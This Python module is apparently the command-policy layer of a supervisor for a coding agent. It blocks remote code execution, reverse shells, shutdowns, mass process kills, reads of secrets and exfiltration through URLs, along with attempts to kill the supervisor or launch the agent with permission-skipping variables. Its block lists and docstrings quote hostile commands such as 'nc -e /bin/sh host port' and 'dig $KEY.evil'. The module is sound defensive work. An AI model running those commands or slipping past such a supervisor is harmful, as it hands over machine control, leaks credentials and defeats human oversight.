"""Rules on what commands do rather than which files they touch.

Remote code execution (``curl | sh``, decoded payloads run by a shell), reverse shells,
shutting the machine down, killing every process (or csup and Claude themselves), network
fetches, secrets shown or put into addresses. git's rules are in :mod:`.git`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from csup._lazy_re import LazyRegex
from csup.policy.programs.inline import (
    DECODED_CODE,
    INTERPRETERS,
    REMOTE_CODE,
    REVERSE_SHELL,
    STDIN_CODE,
)
from csup.policy.programs.wrappers import SHELLS
from csup.policy.rules.base import Context, Finding, ask, deny, rule, shown
from csup.policy.rules.fs import judge_write
from csup.policy.rules.shipping import dumps_environment
from csup.policy.syntax.command import Analysis, Command

FETCHERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "http",
        "https",
        "xh",
        "httpie",
        "aria2c",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "lwp-download",
        "lwp-request",
        "GET",
    }
)
_INTERPRETERS = SHELLS | {
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "bun",
    "deno",
    "lua",
    "source",
    ".",
    "eval",
    "pwsh",
    "pwsh.exe",
    "powershell",
    "powershell.exe",
    "luajit",
}
_NETWORK = FETCHERS | {"ssh", "scp", "sftp", "ftp", "lftp", "telnet", "rsync", "mosh"}
# (command, subcommand or None): publishing to the outside world
_SESSION_PROCESSES = SHELLS | {
    "sshd",
    "systemd",
    "init",
    "launchd",
    "loginwindow",
    "WindowServer",
    "Xorg",
    "Xwayland",
    "gnome-shell",
    "plasmashell",
    "kwin_x11",
    "kwin_wayland",
    "login",
    "dbus-daemon",
}
"""Processes whose killing takes down the user's session (every shell, the desktop, sshd)."""
_DOWN = frozenset({"shutdown", "reboot", "halt", "poweroff", "kexec"})


def _is_decoder(command: Command) -> bool:
    argv = command.argv
    if command.name in ("base64", "base32", "basenc"):
        return any(a in ("-d", "-D", "--decode") or a.startswith("-d") for a in argv[1:])
    if command.name in ("xxd", "openssl", "uudecode", "gunzip", "zcat", "gzip", "bzcat", "xzcat"):
        return command.name in ("uudecode", "gunzip", "zcat", "bzcat", "xzcat") or any(
            a in ("-r", "-d", "-decode") for a in argv[1:]
        )
    return False


def _reads_stdin(command: Command) -> bool:
    """Whether an interpreter takes its program from standard input (or its ``-c``/``-e``
    program runs what standard input gives it: ``exec(sys.stdin.read())``)."""
    from csup.policy.programs.inline import code_of  # noqa: PLC0415 - loaded by then
    from csup.policy.programs.interpreters import knows_options  # noqa: PLC0415
    from csup.policy.programs.runs import reads_program_from_stdin  # noqa: PLC0415

    if not knows_options(command.name):  # shells, `source`, PowerShell
        operands = [a for a in command.argv[1:] if not a.startswith("-") or a == "-"]
        return not operands or operands[0] == "-" or operands[0].startswith("/dev/stdin")
    code = code_of(command.argv) if len(command.argv) > 2 else None
    if code is not None:
        return STDIN_CODE.search(code) is not None
    return reads_program_from_stdin(command)


def _code(command: Command) -> str | None:
    """The ``-c``/``-e`` program of an interpreter, if any."""
    if command.name not in INTERPRETERS and not command.name.startswith("python"):
        return None
    from csup.policy.programs.runs import program_of  # noqa: PLC0415 - loaded by then

    return program_of(command)


@rule(*_INTERPRETERS)
def runs_remote_code(command: Command, ctx: Context) -> Iterator[Finding]:
    """A shell or interpreter running what a download or a decoder produced."""
    code = _code(command)
    if code is not None and REVERSE_SHELL.search(code):
        yield _reverse_shell(command)
    if code is not None and REMOTE_CODE.search(code):
        yield deny(
            "exec.remote-code",
            f"Blocked {shown(command)}: its program downloads code and runs it. Download the "
            "code to a file, read it, and run it only if it is what you expect.",
        )
    if code is not None and DECODED_CODE.search(code):
        yield deny(
            "exec.decoded-payload",
            f"Blocked {shown(command)}: its program runs a decoded (hidden) payload. Write the "
            "commands out in plain text instead.",
        )
        return
    piped = command.upstream if _reads_stdin(command) else ()
    sources = [*piped, *command.feeds]
    fetcher = next((c for c in sources if c.name in FETCHERS), None)
    decoder = next((c for c in sources if _is_decoder(c)), None)
    if fetcher is not None:
        yield deny(
            "exec.remote-code",
            f"Blocked {shown(command)} fed by {shown(fetcher)}: it runs code straight from the "
            "network. Download the script to a file, read it, and run it only if it is what "
            "you expect.",
        )
    elif decoder is not None:
        yield deny(
            "exec.decoded-payload",
            f"Blocked {shown(command)} fed by {shown(decoder)}: it runs a decoded (hidden) "
            "payload. Write the commands out in plain text instead.",
        )


@rule(*_NETWORK)
def fetches(command: Command, ctx: Context) -> Iterator[Finding]:
    """Network clients: ask (at ``moderate``); ``rsync`` only with a remote side."""
    args = command.argv[1:]
    if all(a in ("--version", "-V", "--help", "-h") for a in args) and args:
        return
    if command.name in FETCHERS:
        for path in _downloaded(command, whole=True):
            found = list(judge_write(command, path, False, ctx))
            if any(f.behavior == "deny" for f in found):
                yield from found  # and still the ask below, should an exception drop these
    if command.name == "rsync" and not any(":" in a for a in args if not a.startswith("-")):
        return
    yield ask("net.fetch", f"{shown(command)} talks to the network.")


@rule(*_DOWN, "init", "telinit", "systemctl", "loginctl")
def shuts_down(command: Command, ctx: Context) -> Iterator[Finding]:
    """Shutdown, reboot, halt: the machine goes away."""
    args = command.argv[1:]
    if command.name in ("init", "telinit") and not {"0", "6"} & set(args):
        return
    if command.name in ("systemctl", "loginctl") and not {
        "poweroff",
        "reboot",
        "halt",
        "kexec",
        "suspend",
        "hibernate",
        "kill-session",
        "terminate-session",
        "kill-user",
        "terminate-user",
    } & set(args):
        return
    if command.name == "shutdown" and "-c" in args:
        return
    yield deny(
        "system.shutdown",
        f"Blocked {shown(command)}: it shuts down, reboots or "
        "suspends the machine (or logs the user out).",
    )


@rule("kill", "killall", "pkill", "killall5", "skill")
def kills(command: Command, ctx: Context) -> Iterator[Finding]:
    """Killing every process, init, or csup and Claude themselves."""
    args = list(command.argv[1:])
    if command.name == "kill" and args and args[0].startswith("-") and args[0] != "--":
        args = args[2:] if args[0] in ("-s", "-n") else args[1:]
    operands = [a for a in args if a != "--" and not (command.name != "kill" and a.startswith("-"))]
    inverse = command.name in ("pkill", "pgrep") and any(
        a == "--inverse" or (a.startswith("-") and not a.startswith("--") and "v" in a)
        for a in args
    )
    everything = (
        inverse
        or command.name == "killall5"
        or (command.name != "kill" and bool(_SESSION_PROCESSES & set(operands)))
        or (command.name == "kill" and {"-1", "1"} & set(operands))
        or (
            command.name != "kill"
            and ({".", ".*", "*", "''"} & set(operands) or ("-u" in args and len(operands) <= 1))
        )
    )
    if everything:
        yield deny(
            "system.kill-all",
            f"Blocked {shown(command)}: it kills every process (or "
            "init), taking the session and the machine down. Kill "
            "the specific process ids you started.",
        )
    elif (
        any("claude" in o or "csup" in o or "$PPID" in o for o in operands)
        or any(_names_us(a) for f in command.feeds for a in f.argv[1:])
        or any(  # `ps aux | grep csup | awk '{print $2}' | xargs kill`
            _names_us(a) and u.name in _PROCESS_FINDERS
            for u in command.upstream
            for a in u.argv[1:]
        )
    ):
        yield deny(
            "csup.self-protect",
            f"Blocked {shown(command)}: it would kill csup or "
            "Claude Code, switching supervision off.",
        )


def _names_us(pattern: str) -> bool:
    """Whether a process pattern names claude or csup (``[c]laude``, ``cl.ude`` too)."""
    plain = re.sub(r"\[(.)\]", r"\1", pattern).replace(".", "").replace("\\", "")
    return "claude" in plain or "csup" in plain or "claude" in pattern or "csup" in pattern


_PROCESS_FINDERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "pidof", "awk", "sed", "ps"})


def judge_guard_variables(analysis: Analysis) -> Iterator[Finding]:
    """``CLAUDE_CONFIG_DIR=/tmp/x claude``, ``CSUP_POLICY=permissive csup run``: another
    configuration, without csup's hooks or with a weaker policy."""
    yield from _agent_bypass_variables(analysis)
    names = [n for n, _ in analysis.assigned if n == "CLAUDE_CONFIG_DIR" or n.startswith("CSUP_")]
    if not names:
        return
    started = next((c for c in analysis.commands if c.name in ("claude", "csup")), None)
    if started is not None:
        yield deny(
            "csup.agent-bypass",
            f"Blocked {shown(started)} with `{names[0]}` set: it starts "
            f"{'Claude Code' if started.name == 'claude' else 'csup'} with another "
            "configuration, outside the supervision of this session.",
        )


_BYPASS_VARIABLE = LazyRegex(
    r"([A-Z][A-Z0-9]*)_(?:YOLO|DANGEROUSLY_SKIP_PERMISSIONS|SKIP_PERMISSIONS|AUTO_APPROVE)"
)
"""``OPENCODE_YOLO=true opencode``: an agent told by its environment to ask nothing."""


def _agent_bypass_variables(analysis: Analysis) -> Iterator[Finding]:
    for name, value in analysis.assigned:
        match = _BYPASS_VARIABLE.fullmatch(name)
        if match is None or value.strip().lower() in ("", "0", "false", "no", "off"):
            continue
        agent = match.group(1).lower()
        started = next((c for c in analysis.commands if c.name == agent), None)
        if started is not None:
            yield deny(
                "csup.agent-bypass",
                f"Blocked {shown(started)} with `{name}` set: it starts the agent running "
                "every action without asking, outside the supervision of this session.",
            )
            return


@rule("claude")
def configures_claude(command: Command, ctx: Context) -> Iterator[Finding]:
    """``claude config set ...`` and friends rewrite Claude Code's settings."""
    if {"config", "mcp", "--dangerously-skip-permissions"} & set(command.argv[1:]) and not (
        {"get", "list", "ls"} & set(command.argv[1:])
    ):
        yield deny(
            "csup.self-protect",
            f"Blocked {shown(command)}: it changes Claude Code's "
            "configuration, which csup relies on.",
        )


@rule()
def privileged(command: Command, ctx: Context) -> Iterator[Finding]:
    """Anything run as root through ``sudo``/``doas``: ask (at ``moderate``)."""
    if "sudo" in command.via or "doas" in command.via or command.name in ("sudo", "doas", "su"):
        yield ask("system.privileged", f"{shown(command)} runs with root privileges.")


_RUNS_FILE = SHELLS | {"python", "python2", "python3", "perl", "ruby", "node", "php", "source", "."}
_OUTPUT_OPTIONS = frozenset({"-o", "--output", "-O", "--output-document"})


def _downloaded(command: Command, *, whole: bool = False) -> Iterator[str]:
    """Base names (``whole``: paths) of the files a fetcher writes with ``-o FILE``."""
    argv = command.argv
    for i, word in enumerate(argv[1:], start=1):
        if word in _OUTPUT_OPTIONS and i + 1 < len(argv) and i + 1 not in command.dynamic:
            path = argv[i + 1]
        elif word.startswith(("--output=", "--output-document=")):
            path = word.split("=", 1)[1]
        elif len(word) > 2 and word[:2] in ("-o", "-O") and not word.startswith("--"):
            path = word[2:]
        else:
            continue
        if path and path != "-":
            yield path if whole else path.rstrip("/").rsplit("/", 1)[-1]


def judge_download_and_run(analysis: Analysis) -> Iterator[Finding]:
    """A file downloaded in this line and then run: ``curl -o x.sh URL && sh x.sh``."""
    fetchers = [c for c in analysis.commands if c.name in FETCHERS]
    if not fetchers:
        return
    written = {name for c in fetchers for name in _downloaded(c)}
    written |= {r.target.rsplit("/", 1)[-1] for r in analysis.redirects if ">" in r.op}
    written.discard("")
    if not written:
        return
    for command in analysis.commands:
        if command.name in _RUNS_FILE:
            operands = [a for a in command.argv[1:] if not a.startswith("-")]
            ran = operands[0].rsplit("/", 1)[-1] if operands else None
        else:
            ran = command.name
        if ran in written:
            yield deny(
                "exec.remote-code",
                f"Blocked {shown(command)}: it runs `{ran}`, downloaded in the same command "
                "line, without anyone reading it first. Download it, read it, and run it in a "
                "separate step only if it is what you expect.",
            )
            return


_SECRET_VARIABLE = LazyRegex(
    r"\$\{?([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|CREDENTIALS?|"
    r"ACCESS_?KEY)(?:_(?!(?:FILE|PATH|DIR|NAME|ID|URL|COUNT|LENGTH|TYPE|ENDPOINT|HOST)\b)"
    r"[A-Z0-9]+)*)(?![\w])",
)


_SECRET_WORD = LazyRegex(
    r"(?i)secret|token|passw|api_?key|private|credential|access_?key|auth|_key\b|^key$|aws|"
    r"github|openai|anthropic|stripe"
)


def judge_shown_secrets(analysis: Analysis) -> Iterator[Finding]:
    """``echo $API_TOKEN``, ``printenv AWS_SECRET_ACCESS_KEY``: a secret printed for all to see.

    Only output that reaches the screen (and so Claude's context and transcript) counts: a
    secret piped into another command (``echo $TOKEN | gh auth login --with-token``) or
    used as an argument is fine.
    """
    piped = {id(u) for c in analysis.commands for u in c.upstream}
    for command in analysis.commands:
        if id(command) in piped:
            continue
        if command.name in ("grep", "egrep", "rg", "ag", "awk", "sed") and any(
            dumps_environment(u) for u in command.upstream
        ):
            if any(_SECRET_WORD.search(a) for a in command.argv[1:]):
                yield deny(
                    "secrets.access",
                    f"Blocked {shown(command)} on the environment: it prints variables that "
                    "look like secrets into the session's transcript. Check only that they "
                    'are set: `test -n "$NAME"`.',
                )
                return
            continue
        if command.name in ("echo", "printf"):
            words = command.argv[1:]
        elif command.name == "printenv":
            words = tuple(f"${a}" for a in command.argv[1:] if not a.startswith("-"))
        else:
            continue
        match = next((m for w in words if (m := _SECRET_VARIABLE.search(w))), None)
        if match is not None:
            yield deny(
                "secrets.access",
                f"Blocked {shown(command)}: it prints `{match.group(1)}`, which looks like a "
                "secret, into the session's transcript. Use the variable without printing "
                'it, or check only that it is set: `test -n "${match.group(1)}"`.',
            )
            return


_KEYCHAIN = frozenset(
    {
        "find-generic-password",
        "find-internet-password",
        "dump-keychain",
        "export",
        "find-identity",
        "unlock-keychain",
    }
)


@rule("security", "gpg", "gpg2", "secret-tool", "pass", "op", "bw", "lpass")
def reads_keychains(command: Command, ctx: Context) -> Iterator[Finding]:
    """Keychains and password stores: macOS ``security``, GnuPG secret keys, ``pass`` ..."""
    args = set(command.argv[1:])
    hit = (
        (command.name == "security" and bool(_KEYCHAIN & args))
        or (
            command.name.startswith("gpg")
            and any(a.startswith(("--export-secret", "--export-ownertrust")) for a in args)
        )
        or (command.name == "secret-tool" and bool({"lookup", "search"} & args))
        or (command.name == "pass" and bool(args) and not {"ls", "list", "find"} & args)
        or (command.name in ("op", "bw", "lpass") and bool({"get", "read", "show"} & args))
    )
    if hit:
        yield deny(
            "secrets.access",
            f"Blocked {shown(command)}: it reads secrets from a keychain or password store. "
            "Ask the user for the value you need.",
        )


@rule("crontab")
def replaces_crontab(command: Command, ctx: Context) -> Iterator[Finding]:
    """``crontab -r`` deletes every cron job; ``crontab FILE`` / ``crontab -`` replaces them."""
    args = command.argv[1:]
    if {"-l", "-e"} & set(args) and "-r" not in args:
        return
    if args:
        yield deny(
            "system.crontab",
            f"Blocked {shown(command)}: it deletes or replaces the user's cron jobs, which run "
            "outside any session. Ask the user to change their crontab.",
        )


@rule("history")
def clears_history(command: Command, ctx: Context) -> Iterator[Finding]:
    """``history -c`` / ``-d``: erasing the record of what was run."""
    if any(a.startswith("-") and ("c" in a or "d" in a) for a in command.argv[1:]):
        yield deny(
            "system.history",
            f"Blocked {shown(command)}: it erases the shell history, the record of what was run.",
        )


def _reverse_shell(command: Command) -> Finding:
    return deny(
        "exec.reverse-shell",
        f"Blocked {shown(command)}: it connects a shell to the network, handing control of "
        "this machine to whoever is at the other end.",
    )


@rule("nc", "ncat", "netcat", "socat", "telnet")
def serves_a_shell(command: Command, ctx: Context) -> Iterator[Finding]:
    """``nc -e /bin/sh host port``, ``socat tcp:host:port exec:sh``: a reverse (or bind) shell."""
    args = command.argv[1:]
    if command.name == "socat":
        hit = any(a.lower().startswith(("exec:", "system:")) for a in args)
    else:
        hit = (
            any(
                a in ("--exec", "--sh-exec", "--lua-exec")
                or a.startswith(("--exec=", "--sh-exec="))
                or (a.startswith("-") and not a.startswith("--") and ("e" in a or "c" in a))
                for a in args
            )
            and command.name != "telnet"
        )
    if hit:
        yield _reverse_shell(command)


@rule("xterm", "xfce4-terminal", "gnome-terminal", "konsole", "urxvt", "rxvt")
def opens_a_remote_display(command: Command, ctx: Context) -> Iterator[Finding]:
    """``xterm -display HOST:1``: a terminal, with a shell, shown on another machine's screen."""
    argv = command.argv
    for i, word in enumerate(argv[1:-1], start=1):
        if word in ("-display", "--display", "-d") and i + 1 not in command.dynamic:
            host = argv[i + 1].rsplit(":", 1)[0]
            if host not in ("", "localhost", "127.0.0.1", "unix"):
                yield _reverse_shell(command)
                return


_ENV_FILE = LazyRegex(r"(?:^|/)\.env(?:rc)?(?:\.(?!example$|sample$|template$|dist$)[\w.-]+)?$")
_HEADER_OPTIONS = frozenset(
    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "-A", "--user-agent", "--proxy-user",
     "--http-user", "--http-password", "--password", "--header="}
)  # fmt: skip
_NAME_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute"})
_DATA_OPTIONS = frozenset(
    {"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form",
     "--json", "--post-data", "--body-data"}
)  # fmt: skip


def _prints_environment(command: Command) -> bool:
    """``env``, ``printenv``, ``export -p``, ``declare -x``, ``set``: every variable shown."""
    args = command.argv[1:]
    if command.name in ("env", "printenv"):
        return all(a.startswith("-") and a not in ("-u", "-C", "-S") for a in args)
    if command.name == "export":
        return args in ((), ("-p",))
    if command.name in ("declare", "typeset"):
        return args in ((), ("-p",), ("-x",), ("-px",), ("-xp",))
    return command.name == "set" and not args


def judge_printed_environment(analysis: Analysis) -> Iterator[Finding]:
    """``source .env; env``: the secrets just loaded, printed into the transcript."""
    loaded = False
    piped = {id(u) for c in analysis.commands for u in c.upstream}
    for command in analysis.commands:
        if command.name in ("source", ".") and any(_ENV_FILE.search(a) for a in command.argv[1:2]):
            loaded = True
        elif loaded and id(command) not in piped and _prints_environment(command):
            yield deny(
                "secrets.access",
                f"Blocked {shown(command)} after loading an environment file: it prints the "
                "secrets just loaded into the session's transcript. Check only that a "
                'variable is set: `test -n "$NAME"`.',
            )
            return


@rule(*FETCHERS, *_NAME_LOOKUPS, "ssh", "scp", "rsync", "git")
def puts_secrets_in_addresses(command: Command, ctx: Context) -> Iterator[Finding]:
    """A secret in a URL or a host name (``curl https://x/?k=$TOKEN``, ``dig $KEY.evil``)
    leaves the machine in clear text and in every log on the way; in posted data it is
    asked."""
    argv = command.argv
    for i, word in enumerate(argv[1:], start=1):
        if "$" not in word or argv[i - 1] in _HEADER_OPTIONS or word.startswith("-H"):
            continue
        match = _SECRET_VARIABLE.search(word)
        if match is None:
            continue
        if argv[i - 1] in _DATA_OPTIONS or word.startswith(("--data", "--post-data")):
            yield ask(
                "secrets.send",
                f"{shown(command)} sends `{match.group(1)}`, which looks like a secret.",
            )
            return
        if command.name in _NAME_LOOKUPS or "://" in word or "@" in word or "." in word:
            yield deny(
                "secrets.send",
                f"Blocked {shown(command)}: it puts `{match.group(1)}`, which looks like a "
                "secret, into a network address, where it travels and is logged in clear "
                "text. Send credentials only in an authentication header or option.",
            )
            return
